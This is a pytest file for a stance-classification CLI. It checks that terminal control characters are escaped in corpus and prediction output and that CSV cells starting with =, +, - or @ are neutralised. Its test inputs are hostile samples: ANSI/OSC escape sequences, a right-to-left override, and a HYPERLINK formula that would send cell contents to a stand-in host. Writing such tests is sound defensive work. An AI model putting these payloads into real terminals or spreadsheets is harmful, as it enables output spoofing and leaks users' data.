"""Issue 17, terminal and files: item 10 (escape sequences, CSV formulas)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from stance.cli import app
from stance.models.train import train_model

ESC_TITLE = "Bank \x1b]0;owned\x07moves \x1b[2Jjobs \u202eabroad"
ESC_TEXT = 'The bank said: "We move \x1b[31mred\x1b[0m 300 jobs to Manila." The union objected strongly to it.\n'


@pytest.fixture
def tfidf_run(tmp_path):
    rows = [{"text": "Jobs abroad save money.", "stance": "pro"}, {"text": "We oppose it.", "stance": "anti"}]
    return train_model("tfidf", rows, out_dir=tmp_path / "run")


def no_raw_controls(output: str) -> None:
    assert "\x1b" not in output and "\x07" not in output and "\u202e" not in output, repr(output)


def test_10_corpus_add_list_show_escape_control_characters(empty_project, runner, tmp_path):
    story = tmp_path / "story.txt"
    story.write_text(ESC_TEXT, encoding="utf-8")
    added = runner.invoke(app, ["corpus", "add", str(story), "--title", ESC_TITLE, "--id", "bank", "--no-suggest"])
    assert added.exit_code == 0, added.output
    no_raw_controls(added.output)
    listed = runner.invoke(app, ["corpus", "list"], env={"COLUMNS": "200"})
    no_raw_controls(listed.output)
    assert "Bank \\x1b" in listed.output
    shown = runner.invoke(app, ["corpus", "show", "bank"], env={"COLUMNS": "200"})
    no_raw_controls(shown.output)
    assert "\\x1b[31mred\\x1b[0m" in shown.output and "\\u202e" in shown.output


def test_10_predict_table_escapes_control_characters(tfidf_run, runner):
    result = runner.invoke(app, ["predict", str(tfidf_run), "Jobs \x1b[2J abroad [IT]", "-f", "table"])
    assert result.exit_code == 0, result.output
    no_raw_controls(result.output)
    assert "\\x1b[2J" in result.output and "[IT]" in result.output


def test_10_csv_cells_that_would_run_as_formulas_are_neutralised(tfidf_run, runner, tmp_path):
    data = tmp_path / "in.jsonl"
    texts = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1 more job", "-cut costs", "@SUM(1)", "plain"]
    data.write_text("".join(json.dumps({"text": t}) + "\n" for t in texts), encoding="utf-8")
    out = tmp_path / "out.csv"
    assert runner.invoke(app, ["predict", str(tfidf_run), "--input", str(data), "-o", str(out)]).exit_code == 0
    cells = [row["text"] for row in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))]
    assert cells == ["'" + t for t in texts[:4]] + ["plain"]
    raw = runner.invoke(app, ["predict", str(tfidf_run), "--input", str(data), "-f", "csv", "--raw-csv"])
    assert [row["text"] for row in csv.DictReader(io.StringIO(raw.stdout))] == texts
